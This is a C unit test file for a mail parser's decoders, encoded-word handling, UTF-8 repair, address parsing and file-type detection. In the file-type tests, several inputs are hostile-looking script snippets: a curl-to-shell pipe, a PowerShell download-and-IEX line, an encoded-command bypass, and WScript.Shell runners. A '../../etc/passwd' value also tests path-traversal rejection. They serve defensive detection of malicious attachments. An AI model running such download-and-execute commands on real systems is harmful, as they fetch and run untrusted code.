/* test_mimeparts.c - the pieces under the message parser: streaming
 * decoders (codec.c), encoded words and parameters (rfc2047.c), file type
 * detection (magic.c), UTF-8 repair (utf8.c) and address lists
 * (mailaddr.c), on readable text. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "check.h"
#include "codec.h"
#include "magic.h"
#include "mailaddr.h"
#include "rfc2047.h"
#include "utf8.h"

struct out {
	char buf[4096];
	size_t len;
};

static void sink(void *arg, const uint8_t *d, size_t n)
{
	struct out *o = arg;
	if (o->len + n < sizeof o->buf) {
		memcpy(o->buf + o->len, d, n);
		o->len += n;
	}
	o->buf[o->len] = 0;
}

/* Decode `in` with the streaming decoder in pieces of `step` bytes. */
static int b64(const char *in, size_t step, struct out *o)
{
	struct codec_b64 s;
	codec_b64_init(&s);
	o->len = 0;
	o->buf[0] = 0;
	size_t n = strlen(in);
	for (size_t i = 0; i < n; i += step)
		codec_b64_feed(&s, (const uint8_t *)in + i, i + step > n ? n - i : step, sink, o);
	codec_b64_finish(&s, sink, o);
	return s.bad;
}

static int qp(const char *in, size_t step, struct out *o)
{
	struct codec_qp s;
	codec_qp_init(&s);
	o->len = 0;
	o->buf[0] = 0;
	size_t n = strlen(in);
	for (size_t i = 0; i < n; i += step)
		codec_qp_feed(&s, (const uint8_t *)in + i, i + step > n ? n - i : step, sink, o);
	codec_qp_finish(&s, sink, o);
	return s.bad;
}

static void test_codec(void)
{
	struct out o;
	for (size_t step = 1; step <= 7; step++) {
		CHECK_INT(b64("SGVsbG8s\r\nIHdvcmxkIQ==\r\n", step, &o), 0);
		CHECK_STR(o.buf, "Hello, world!");
		CHECK_INT(b64("SGk", step, &o), 0); /* missing padding is tolerated */
		CHECK_STR(o.buf, "Hi");
		CHECK_INT(b64("SGk=SGk=", step, &o), 0); /* concatenated blocks */
		CHECK_STR(o.buf, "HiHi");
		CHECK_INT(b64("SG?k*", step, &o), 1);
		CHECK_STR(o.buf, "Hi");
		CHECK_INT(b64("SGkh\r\nS", step, &o), 1); /* a lone sextet at the end */
		CHECK_STR(o.buf, "Hi!");

		CHECK_INT(qp("caf=C3=A9 =\r\nau lait=3D ok\r\n", step, &o), 0);
		CHECK_STR(o.buf, "caf\xc3\xa9 au lait= ok\r\n");
		CHECK_INT(qp("soft break with blanks=  \r\nnext", step, &o), 0);
		CHECK_STR(o.buf, "soft break with blanksnext");
		CHECK_INT(qp("lower =c3=a9 ok", step, &o), 0);
		CHECK_STR(o.buf, "lower \xc3\xa9 ok");
		CHECK_INT(qp("bad =ZZ and =4", step, &o), 1);
		CHECK_STR(o.buf, "bad =ZZ and =4");
		CHECK_INT(qp("ends with soft=", step, &o), 0);
		CHECK_STR(o.buf, "ends with soft");
		/* trailing blanks are padding; inner ones and a lone CR stay */
		CHECK_INT(qp("pad \t \r\nin  side\r\rx  \ny=20\t", step, &o), 0);
		CHECK_STR(o.buf, "pad\r\nin  side\r\rx\ny ");
		CHECK_INT(qp("=4 \r\n", step, &o), 1);
		CHECK_STR(o.buf, "=4\r\n");
	}
	uint8_t buf[16];
	CHECK_INT(codec_q_decode_str("a_b=3Dc", 7, buf, sizeof buf, 1), 5);
	CHECK(!memcmp(buf, "a b=c", 5));
	CHECK_INT(codec_q_decode_str("a=3", 3, buf, sizeof buf, 1), -1);
	CHECK_INT(codec_pct_decode_str("x%20y%2", 7, buf, sizeof buf), -1);
	CHECK_INT(codec_b64_decode_str("SGk=", 4, buf, 1), -1); /* no room */
}

struct big {
	uint8_t *buf;
	size_t len, cap;
};

static void big_sink(void *arg, const uint8_t *d, size_t n)
{
	struct big *o = arg;
	if (o->len + n <= o->cap) {
		memcpy(o->buf + o->len, d, n);
		o->len += n;
	}
}

static int b64_big(const uint8_t *in, size_t n, size_t step, struct big *o)
{
	struct codec_b64 s;
	codec_b64_init(&s);
	o->len = 0;
	for (size_t i = 0; i < n; i += step)
		codec_b64_feed(&s, in + i, i + step > n ? n - i : step, big_sink, o);
	codec_b64_finish(&s, big_sink, o);
	return s.bad;
}

/* Plain base64 with a CRLF every `wrap` characters (0: none). */
static size_t b64_encode(const uint8_t *d, size_t n, size_t wrap, uint8_t *out)
{
	static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t o = 0, col = 0;
	for (size_t i = 0; i < n; i += 3) {
		uint32_t q = (uint32_t)d[i] << 16 | (i + 1 < n ? (uint32_t)d[i + 1] << 8 : 0) |
		             (i + 2 < n ? d[i + 2] : 0);
		char c[4] = { al[q >> 18], al[(q >> 12) & 63], i + 1 < n ? al[(q >> 6) & 63] : '=',
		              i + 2 < n ? al[q & 63] : '=' };
		for (int k = 0; k < 4; k++) {
			out[o++] = (uint8_t)c[k];
			if (wrap && ++col == wrap) {
				out[o++] = '\r';
				out[o++] = '\n';
				col = 0;
			}
		}
	}
	return o;
}

/* Each SIMD path (AVX2; AVX-512) must give exactly what the scalar path
 * gives: on wrapped and unwrapped text of many lengths, fed in pieces of
 * many sizes, and with every byte value planted at places of a block. */
static void test_b64_simd_level(int level)
{
	enum { N = 20000 };
	uint8_t *raw = malloc(N), *enc = malloc(N * 2), *bad = malloc(N * 2);
	struct big a = { malloc(N), 0, N }, b = { malloc(N), 0, N };
	uint32_t x = 12345;
	for (size_t i = 0; i < N; i++) {
		x = x * 1103515245u + 12345u;
		raw[i] = (uint8_t)(x >> 16);
	}
	static const size_t lens[] = { 0, 1, 2, 3, 23, 24, 25, 47, 48, 49, 57, 96, 1000, 4096, 12345 };
	static const size_t wraps[] = { 0, 76, 64, 32, 7 };
	static const size_t steps[] = { 1, 5, 31, 32, 33, 100, 4097, 1 << 20 };
	for (size_t li = 0; li < sizeof lens / sizeof lens[0]; li++)
		for (size_t wi = 0; wi < sizeof wraps / sizeof wraps[0]; wi++) {
			size_t n = b64_encode(raw, lens[li], wraps[wi], enc);
			for (size_t si = 0; si < sizeof steps / sizeof steps[0]; si++) {
				if (steps[si] == 1 && lens[li] > 1000)
					continue;
				codec_b64_simd(level);
				CHECK_INT(b64_big(enc, n, steps[si], &a), 0);
				codec_b64_simd(0);
				CHECK_INT(b64_big(enc, n, steps[si], &b), 0);
				CHECK_INT(a.len, lens[li]);
				CHECK_INT(b.len, lens[li]);
				CHECK(!memcmp(a.buf, raw, lens[li]));
				CHECK(!memcmp(b.buf, raw, lens[li]));
			}
		}
	/* every byte value at offsets through the second 64-character block */
	size_t n = b64_encode(raw, 300, 0, enc);
	for (int c = 0; c < 256; c++)
		for (size_t at = 32; at < 128; at += 5) {
			memcpy(bad, enc, n);
			bad[at] = (uint8_t)c;
			codec_b64_simd(level);
			int ba = b64_big(bad, n, n, &a);
			codec_b64_simd(0);
			int bb = b64_big(bad, n, n, &b);
			CHECK_INT(ba, bb);
			CHECK_INT(a.len, b.len);
			CHECK(!memcmp(a.buf, b.buf, a.len));
		}
	codec_b64_simd(2);
	free(raw);
	free(enc);
	free(bad);
	free(a.buf);
	free(b.buf);
}

static void test_b64_simd(void)
{
	int have = codec_b64_simd(2);
	for (int level = 1; level <= have; level++)
		test_b64_simd_level(level);
	printf("base64 SIMD paths compared with scalar: %s\n",
	       have == 2 ? "AVX2, AVX-512" : have == 1 ? "AVX2 (no AVX-512 VBMI here)"
	                                                : "none available");
}

static void test_rfc2047(void)
{
	struct charset_cache cs;
	char out[256];
	unsigned f;
	charset_cache_init(&cs);
#define DEC(in) (f = 0, rfc2047_decode(&cs, in, strlen(in), out, sizeof out, &f))
	DEC("=?utf-8?q?Gr=C3=BC=C3=9Fe?= aus =?ISO-8859-1?B?S/ZsbiA=?=und Bonn");
	CHECK_STR(out, "Gr\xc3\xbc\xc3\x9f" "e aus K\xc3\xb6ln und Bonn");
	CHECK_INT(f, 0);
	/* a UTF-8 character split across two adjacent words survives */
	DEC("=?UTF-8?B?w6k=?= =?UTF-8?B?4oI=?=\r\n =?UTF-8?B?rA==?=");
	CHECK_STR(out, "\xc3\xa9\xe2\x82\xac");
	CHECK_INT(f, 0);
	/* Shift_JIS, then windows-1252 smart quotes */
	DEC("=?Shift_JIS?B?k/qWe4zq?= =?windows-1252?Q?=93hi=94?=");
	CHECK_STR(out, "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\xe2\x80\x9chi\xe2\x80\x9d");
	DEC("=?no-such-charset?Q?abc?=");
	CHECK_STR(out, "abc");
	CHECK(f & TXT_BAD_ENCODING);
	DEC("=?utf-8?B?####?= stays");
	CHECK_STR(out, "=?utf-8?B?####?= stays");
	CHECK(f & TXT_BAD_ENCODING);
	DEC("=?../../etc/passwd?Q?x?=");
	CHECK(f & TXT_BAD_ENCODING);
	/* undeclared 8-bit header text is read as Windows-1252 */
	DEC("raw \xff bytes");
	CHECK_STR(out, "raw \xc3\xbf bytes");
	CHECK(f & TXT_REPAIRED);
	DEC("See What\x92s Next =?utf-8?q?caf=C3=A9?= \x80\x81");
	CHECK_STR(out, "See What\xe2\x80\x99s Next caf\xc3\xa9 \xe2\x82\xac\xc2\x81");
	CHECK(f & TXT_REPAIRED);
	DEC("d\xc3\xa9j\xc3\xa0 UTF-8");
	CHECK_STR(out, "d\xc3\xa9j\xc3\xa0 UTF-8");
	CHECK_INT(f, 0);
	DEC("=?utf-8*en?Q?lang_suffix?=");
	CHECK_STR(out, "lang suffix");
	/* output cut on a character boundary */
	f = 0;
	rfc2047_decode(&cs, "\xc3\xa4\xc3\xa4\xc3\xa4", 6, out, 6, &f);
	CHECK_STR(out, "\xc3\xa4\xc3\xa4");

	char tok[64];
	const char *ct = "Multipart/Mixed (a comment); boundary=\"==b;oundary==\"; charset=UTF-8";
	mime_value_token(ct, strlen(ct), tok, sizeof tok);
	CHECK_STR(tok, "multipart/mixed");
	CHECK_INT(mime_param_raw(ct, strlen(ct), "boundary", tok, sizeof tok), 13);
	CHECK_STR(tok, "==b;oundary==");
	CHECK(mime_param(&cs, ct, strlen(ct), "charset", out, sizeof out, &f));
	CHECK_STR(out, "UTF-8");
	CHECK(!mime_param(&cs, ct, strlen(ct), "name", out, sizeof out, &f));

	const char *cd = "attachment; filename*=iso-8859-1'de'Gr%FC%DFe.txt; filename=\"fallback.txt\"";
	f = 0;
	CHECK(mime_param(&cs, cd, strlen(cd), "filename", out, sizeof out, &f));
	CHECK_STR(out, "Gr\xc3\xbc\xc3\x9f" "e.txt");
	CHECK_INT(f, 0);
	/* continuations out of order, one quoted, one missing (*2) */
	cd = "attachment; filename*1=\"part two \\\"q\\\"\"; filename*0*=utf-8''%C3%A9t%C3%A9%20; filename*3=end";
	f = 0;
	CHECK(mime_param(&cs, cd, strlen(cd), "filename", out, sizeof out, &f));
	CHECK_STR(out, "\xc3\xa9t\xc3\xa9 part two \"q\"end");
	CHECK(f & TXT_BAD_ENCODING);
	cd = "inline; filename=\"=?UTF-8?B?0YTQsNC50LsucGRm?=\"";
	f = 0;
	CHECK(mime_param(&cs, cd, strlen(cd), "filename", out, sizeof out, &f));
	CHECK_STR(out, "\xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb.pdf");
	charset_cache_free(&cs);
}

static const char *magic(const char *bytes, size_t n)
{
	struct magic_result r;
	magic_detect((const uint8_t *)bytes, n, n, &r);
	return r.type;
}

static const char *kind(const char *text)
{
	struct magic_result r;
	magic_detect((const uint8_t *)text, strlen(text), strlen(text), &r);
	return r.script_kind ? r.script_kind : r.type;
}

static void test_magic(void)
{
	CHECK_STR(magic("", 0), "empty");
	CHECK_STR(magic("PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	                "\x00\x00\x00\x00\x00\x00\x00\x00\x07\x00\x00\x00a/b.txt", 37), "zip");
	CHECK_STR(magic("PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	                "\x02\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00xAB"
	                "PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	                "\x00\x00\x00\x00\x00\x00\x00\x00\x11\x00\x00\x00xl/workbook.xml", 80), "ooxml");
	CHECK_STR(magic("7z\xbc\xaf\x27\x1c\x00\x04", 8), "7z");
	CHECK_STR(magic("Rar!\x1a\x07\x01\x00", 8), "rar");
	CHECK_STR(magic("\x1f\x8b\x08\x00", 4), "gzip");
	CHECK_STR(magic("BZh91AY&SY", 10), "bzip2");
	CHECK_STR(magic("\xfd" "7zXZ\x00\x00", 7), "xz");
	CHECK_STR(magic("MZ\x90\x00", 4), "exe");
	CHECK_STR(magic("\x7f" "ELF\x02\x01\x01", 7), "elf");
	CHECK_STR(magic("\xcf\xfa\xed\xfe\x07\x00\x00\x01", 8), "macho");
	CHECK_STR(magic("\xca\xfe\xba\xbe\x00\x00\x00\x02", 8), "macho");
	CHECK_STR(magic("\xca\xfe\xba\xbe\x00\x00\x00\x34", 8), "unknown"); /* a Java class */
	CHECK_STR(magic("%PDF-1.7\n", 9), "pdf");
	CHECK_STR(magic("junk before the header %PDF-1.4\n", 32), "pdf");
	{
		/* the header must lie whole within the first KB */
		static char buf[1100];
		memset(buf, '\x01', sizeof buf);
		memcpy(buf + 1019, "%PDF-", 5);
		CHECK_STR(magic(buf, sizeof buf), "pdf");
		memset(buf + 1019, '\x01', 5);
		memcpy(buf + 1020, "%PDF-", 5);
		CHECK_STR(magic(buf, sizeof buf), "unknown");
	}
	CHECK_STR(magic("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00", 10), "ole");
	CHECK_STR(magic("\x89PNG\r\n\x1a\n", 8), "image");
	CHECK_STR(magic("\xff\xd8\xff\xe0", 4), "image");
	CHECK_STR(magic("GIF89a\x01\x00", 8), "image");
	CHECK_STR(magic("Dear Bob,\r\nplease find the minutes below.\r\n", 43), "text");
	CHECK_STR(magic("Gr\xc3\xbc\xc3\x9f" "e aus K\xc3\xb6ln\n", 16), "text");
	CHECK_STR(magic("\x00\x01\x02\x03\xfe\xfd", 6), "unknown");

	CHECK_STR(kind("#!/bin/sh\ncurl http://x | sh\n"), "shell");
	CHECK_STR(kind("\xef\xbb\xbf#!/usr/bin/env python3\nimport os\n"), "python");
	CHECK_STR(kind("#!/usr/bin/perl -w\n"), "perl");
	CHECK_STR(kind("$c = New-Object Net.WebClient\nIEX($c.DownloadString('http://x/a'))\n"), "powershell");
	CHECK_STR(kind("powershell -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA\n"), "powershell");
	CHECK_STR(kind("@echo off\r\ncd %~dp0\r\nstart payload.exe\r\n"), "batch");
	CHECK_STR(kind("On Error Resume Next\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n"), "vbscript");
	CHECK_STR(kind("var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc\");\n"), "javascript");
	CHECK_STR(kind("Please run the Get-ChildItem report tomorrow.\n"), "text"); /* one weak hit */

	CHECK(magic_extension_mismatch("report.pdf", "zip"));
	CHECK(!magic_extension_mismatch("report.pdf", "pdf"));
	CHECK(!magic_extension_mismatch("Budget.XLSX", "ooxml"));
	CHECK(magic_extension_mismatch("letter.docx", "zip"));
	CHECK(!magic_extension_mismatch("invoice.exe", "exe"));
	CHECK(magic_extension_mismatch("photo.jpg", "exe"));
	CHECK(magic_extension_mismatch("invoice.pdf  ", "exe")); /* trailing blanks */
	CHECK(magic_extension_mismatch("C:\\docs\\scan.doc", "ooxml"));
	CHECK(!magic_extension_mismatch("scan.doc", "ole"));
	CHECK(!magic_extension_mismatch("data.bin", "unknown")); /* unknown extension */
	CHECK(!magic_extension_mismatch("README", "exe"));        /* no extension */
	CHECK(!magic_extension_mismatch("notes.txt", "empty"));
	CHECK(!magic_extension_mismatch("run.ps1", "script"));
	CHECK(!magic_extension_mismatch("run.ps1", "text"));
	CHECK(magic_extension_mismatch("run.ps1", "exe"));
	CHECK(!magic_extension_mismatch(NULL, "exe"));
}

static void test_utf8(void)
{
	char out[32];
	int rep = 0;
	CHECK(utf8_valid((const uint8_t *)"plain \xc3\xa9 \xf0\x9f\x93\x8e", 13));
	CHECK(!utf8_valid((const uint8_t *)"\xc0\xaf", 2));         /* overlong '/' */
	CHECK(!utf8_valid((const uint8_t *)"\xed\xa0\x80", 3));     /* surrogate */
	CHECK(!utf8_valid((const uint8_t *)"\xf4\x90\x80\x80", 4)); /* > U+10FFFF */
	CHECK(!utf8_valid((const uint8_t *)"a\0b", 3));
	CHECK_INT(utf8_repair((const uint8_t *)"a\xc3", 2, out, sizeof out, &rep), 4);
	CHECK_STR(out, "a\xef\xbf\xbd");
	CHECK_INT(rep, 1);
	rep = 0;
	CHECK_INT(utf8_repair((const uint8_t *)"ab\xe2\x82\xac", 5, out, 5, &rep), 2);
	CHECK_STR(out, "ab");
	CHECK_INT(rep, 0);

	/* Windows-1252: every byte kept but NUL, cut on a character */
	const uint8_t quoted[] = "\x93x\x94\0\x9f\xe9";
	CHECK_INT(utf8_or_cp1252(quoted, 6, out, sizeof out, &rep), 14);
	CHECK_STR(out, "\xe2\x80\x9cx\xe2\x80\x9d\xef\xbf\xbd\xc5\xb8\xc3\xa9");
	CHECK_INT(rep, 1);
	rep = 0;
	CHECK_INT(utf8_or_cp1252((const uint8_t *)"ab\x80", 3, out, 5, &rep), 2);
	CHECK_STR(out, "ab");
	CHECK_INT(rep, 1);
	rep = 0;
	CHECK_INT(utf8_or_cp1252((const uint8_t *)"ok \xc3\xa9", 5, out, sizeof out, &rep), 5);
	CHECK_STR(out, "ok \xc3\xa9");
	CHECK_INT(rep, 0);
	CHECK_INT(utf8_or_cp1252((const uint8_t *)"x\xff", 2, out, 0, &rep), 0);
}

struct got {
	char s[512];
	size_t n;
};

static void on_addr(void *arg, const char *a, size_t al, const char *nm, size_t nl,
                    const char *g, size_t gl)
{
	struct got *o = arg;
	o->n += (size_t)snprintf(o->s + o->n, sizeof o->s - o->n, "[%.*s|%.*s|%.*s]",
	                         (int)al, a, (int)nl, nm, (int)gl, g);
}

static void test_mailaddr(void)
{
	struct got o = { "", 0 };
	int bad = 0;
	const char *l = "\"Doe, Jane\" <jane@example.com>, John (the boss) <john@example.com>,\r\n"
	                "\tplain@example.com (Plain Person), Friends: a@x.example, \"b c\" <b@x.example>;,"
	                " <@route.example:r@x.example>";
	CHECK_INT(mailaddr_parse_list(l, strlen(l), on_addr, &o, &bad), 6);
	CHECK_STR(o.s, "[jane@example.com|Doe, Jane|][john@example.com|John|]"
	               "[plain@example.com|Plain Person|][a@x.example||Friends][b@x.example|b c|Friends]"
	               "[@route.example:r@x.example||]");
	CHECK_INT(bad, 0);
	o.n = 0;
	o.s[0] = 0;
	l = "just words, , x@y.example";
	CHECK_INT(mailaddr_parse_list(l, strlen(l), on_addr, &o, &bad), 1);
	CHECK_STR(o.s, "[x@y.example||]");
	CHECK_INT(bad, 1);
}

int main(void)
{
	test_codec();
	test_b64_simd();
	test_rfc2047();
	test_magic();
	test_utf8();
	test_mailaddr();
	return check_done();
}
